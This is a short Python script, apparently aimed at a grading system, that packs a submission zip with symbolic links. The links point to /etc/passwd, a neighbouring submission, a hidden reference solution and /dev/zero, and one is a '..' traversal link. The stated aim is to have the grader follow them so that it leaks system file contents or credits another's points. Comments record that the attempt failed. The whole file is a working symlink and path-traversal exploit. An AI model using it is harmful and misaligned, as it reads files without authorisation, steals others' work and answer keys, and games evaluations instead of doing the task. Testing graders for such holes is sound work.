"""Hand in a zip whose modules are symbolic links: to /etc/passwd, to the neighbour, to themselves, to a device.

Success: a link is followed: the neighbour's points, or text of /etc/passwd on the page.
"""
# tried on every level
# never on the page: root:x:0

import stat
import zipfile
from pathlib import Path

TARGETS = {
    "schedules.py": "../000-honest/schedules.py",
    "forward.py": "/etc/passwd",
    "loss.py": "loss.py",
    "cfg.py": "/dev/zero",
    "ddpm.py": "../../solutions/ddpm.py",
    "up": "..",
    "up/000-honest/extra.py": "x",
}


def make(path: Path) -> None:
    with zipfile.ZipFile(path.with_name(path.name + ".zip"), "w") as archive:
        for name, target in TARGETS.items():
            entry = zipfile.ZipInfo(name)
            entry.create_system = 3
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
